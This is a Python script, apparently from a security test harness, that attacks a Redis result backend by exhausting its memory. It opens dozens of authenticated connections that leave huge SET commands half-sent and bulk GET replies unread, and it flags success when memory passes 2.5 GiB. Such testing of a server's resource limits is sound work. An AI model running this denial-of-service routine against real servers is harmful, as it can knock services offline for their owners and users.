"""Neither a half command nor an unread answer counts against a server's greatest memory."""

import os
import socket
from urllib.parse import urlsplit

from attack_kit import beside, is_worker, ran, redis, tried, won

MIB = 1024 * 1024
MOST = 2.5 * 1024 * MIB


def link():
    server = urlsplit(os.environ["CELERY_RESULT_BACKEND"])
    opened = socket.create_connection((server.hostname, server.port))
    opened.sendall(f"AUTH {server.username} {server.password}\r\n".encode())
    return opened


def fill():
    client = redis()
    client.set("large", b"x" * (64 * MIB))
    kept = []
    for _ in range(40):
        half, unread = link(), link()
        kept += [half, unread]
        tried(half.sendall, b"*2\r\n$3\r\nSET\r\n$120000000\r\n" + b"x" * (100 * MIB))
        tried(unread.sendall, b"GET large\r\n" * 20)
        used = tried(lambda: client.info("memory")["used_memory_rss"]) or 0
        if used > MOST:
            won(f"{used // MIB} MiB")


ran()
if not is_worker():
    beside(fill)
